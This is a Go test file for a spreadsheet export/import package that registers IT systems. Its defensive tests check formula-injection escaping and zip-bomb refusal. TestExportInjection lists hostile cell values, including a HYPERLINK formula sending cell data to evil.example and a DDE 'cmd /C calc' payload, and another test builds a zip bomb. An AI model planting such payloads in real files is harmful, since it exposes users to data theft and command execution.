package sheets

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"reflect"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"fenghuo/internal/fenghuo"
)

func TestRoundTrip(t *testing.T) {
	plain := fenghuo.System{OrgID: 2, Name: "内部办公系统", Status: fenghuo.SystemRetired}
	full := fullSystem()
	full.OrgID, full.ID, full.Version = 1, 99, 4
	names := map[int64]string{1: "示例市大数据中心"} // org 2 is written as its ID
	for _, lang := range []string{"zh", "en"} {
		t.Run(lang, func(t *testing.T) {
			var buf bytes.Buffer
			if err := WriteSystemsXLSX(&buf, []fenghuo.System{full, plain}, names, lang); err != nil {
				t.Fatal(err)
			}
			rows, err := ParseSystems("export.xlsx", &buf, 0)
			if err != nil {
				t.Fatal(err)
			}
			MustNoRowErrors(t, rows)
			if len(rows) != 2 || rows[0].Row != 2 || rows[0].OrgRef != "示例市大数据中心" || rows[1].OrgRef != "2" {
				t.Fatalf("rows = %+v", rows)
			}
			// The register carries neither IDs nor owner IDs: the caller
			// resolves OrgRef.
			for i, want := range []fenghuo.System{full, plain} {
				want.OrgID, want.ID, want.Version = 0, 0, 0
				if got := rows[i].System; !reflect.DeepEqual(got, want) {
					t.Errorf("row %d =\n%+v\nwant\n%+v", i, got, want)
				}
			}
		})
	}
}

func TestExportLayout(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteSystemsXLSX(&buf, []fenghuo.System{fullSystem()}, nil, "en"); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); !reflect.DeepEqual(got, []string{"systems"}) {
		t.Errorf("sheets = %v", got)
	}
	if v, _ := f.GetCellValue("systems", "F1"); v != "protection level" {
		t.Errorf("F1 = %q", v)
	}
	panes, err := f.GetPanes("systems")
	if err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("panes = %+v, %v; want the header row frozen", panes, err)
	}
	id, _ := f.GetCellStyle("systems", "B1")
	if style, err := f.GetStyle(id); err != nil || style.Font == nil || !style.Font.Bold {
		t.Errorf("header style = %+v, %v; want bold", style, err)
	}
	if w, _ := f.GetColWidth("systems", "A"); w != columns[colOrg].width {
		t.Errorf("width of A = %v", w)
	}
	dvs, err := f.GetDataValidations("systems")
	if err != nil || len(dvs) != 3 {
		t.Fatalf("data validations = %d, %v; want 3", len(dvs), err)
	}
	if dvs[0].Sqref != "F2:F5001" || !strings.Contains(dvs[0].Formula1, "not graded") {
		t.Errorf("level drop-down = %+v", dvs[0])
	}
}

// TestExportInjection checks that text looking like a formula is written
// as a string: opening the file never evaluates it.
func TestExportInjection(t *testing.T) {
	evil := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"}
	var systems []fenghuo.System
	for _, v := range evil {
		systems = append(systems, fenghuo.System{OrgID: 1, Name: v, Description: v, Department: v})
	}
	var buf bytes.Buffer
	if err := WriteSystemsXLSX(&buf, systems, map[int64]string{1: "=1+1"}, "zh"); err != nil {
		t.Fatal(err)
	}
	data := buf.Bytes()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	for _, zf := range zr.File {
		if !strings.HasPrefix(zf.Name, "xl/worksheets/") {
			continue
		}
		rc, _ := zf.Open()
		xml, _ := io.ReadAll(rc)
		rc.Close()
		if bytes.Contains(xml, []byte("<f>")) || bytes.Contains(xml, []byte("<f ")) {
			t.Errorf("%s contains a formula", zf.Name)
		}
	}
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for i, v := range evil {
		for _, col := range []string{"A", "B", "C", "N"} {
			cell := col + string(rune('2'+i))
			if formula, _ := f.GetCellFormula(sheetZH, cell); formula != "" {
				t.Errorf("%s has formula %q", cell, formula)
			}
			if typ, _ := f.GetCellType(sheetZH, cell); typ != excelize.CellTypeSharedString {
				t.Errorf("%s has type %v, want a shared string", cell, typ)
			}
		}
		if got, _ := f.GetCellValue(sheetZH, "B"+string(rune('2'+i))); got != v {
			t.Errorf("name %q written as %q", v, got)
		}
	}
}

func TestTemplate(t *testing.T) {
	for _, lang := range []string{"zh", "en"} {
		var buf bytes.Buffer
		if err := WriteTemplateXLSX(&buf, lang); err != nil {
			t.Fatal(err)
		}
		data := buf.Bytes()
		rows, err := ParseSystems("template.xlsx", bytes.NewReader(data), 0)
		if err != nil || len(rows) != 0 {
			t.Fatalf("%s: parsing the empty template: %d rows, %v", lang, len(rows), err)
		}
		// The example row on the instructions sheet must itself import cleanly.
		f, err := excelize.OpenReader(bytes.NewReader(data))
		if err != nil {
			t.Fatal(err)
		}
		sheets := f.GetSheetList()
		if len(sheets) != 2 || (sheets[1] != instructionsZH && sheets[1] != instructionsEN) {
			t.Fatalf("sheets = %v", sheets)
		}
		all, err := f.GetRows(sheets[1])
		f.Close()
		if err != nil || len(all) < 2 {
			t.Fatalf("instructions: %v", err)
		}
		var csvText strings.Builder
		w := csv.NewWriter(&csvText)
		_ = w.WriteAll(all[len(all)-2:])
		rows = MustParseCSV(t, csvText.String())
		MustNoRowErrors(t, rows)
		if len(rows) != 1 || rows[0].System.ProtectionLevel != 3 || len(rows[0].System.Components) != 3 {
			t.Errorf("%s example row = %+v", lang, rows)
		}
	}
}

func TestXLSXCachedFormulaValue(t *testing.T) {
	f := excelize.NewFile()
	for i, v := range []string{"所属单位", "系统名称", "等保级别"} {
		cell, _ := excelize.CoordinatesToCellName(i+1, 1)
		_ = f.SetCellStr("Sheet1", cell, v)
	}
	_ = f.SetCellStr("Sheet1", "A2", "单位甲")
	_ = f.SetCellStr("Sheet1", "B2", "门户")
	_ = f.SetCellInt("Sheet1", "C2", 3) // becomes the cached value of the formula
	if err := f.SetCellFormula("Sheet1", "C2", "1+1+1"); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	_ = f.Write(&buf)
	rows, err := ParseSystems("f.xlsx", &buf, 0)
	if err != nil {
		t.Fatal(err)
	}
	MustNoRowErrors(t, rows)
	if rows[0].System.ProtectionLevel != 3 {
		t.Errorf("level = %d, want the cached 3", rows[0].System.ProtectionLevel)
	}
}

func TestZipBombRefused(t *testing.T) {
	valid := MustXLSX(t, map[string][][]string{"系统": {{"所属单位", "系统名称"}}}, "系统")
	zr, err := zip.NewReader(bytes.NewReader(valid), int64(len(valid)))
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, zf := range zr.File {
		if err := zw.Copy(zf); err != nil {
			t.Fatal(err)
		}
	}
	bomb, _ := zw.Create("xl/media/image1.png")
	zeros := make([]byte, 1<<20)
	for range maxUnzipBytes>>20 + 1 {
		_, _ = bomb.Write(zeros)
	}
	_ = zw.Close()
	if buf.Len() > 1<<20 {
		t.Fatalf("bomb is %d bytes, expected it to compress well", buf.Len())
	}
	_, err = ParseSystems("bomb.xlsx", &buf, 0)
	wantEINVALID(t, err, "expands to more than 64 MB")
}
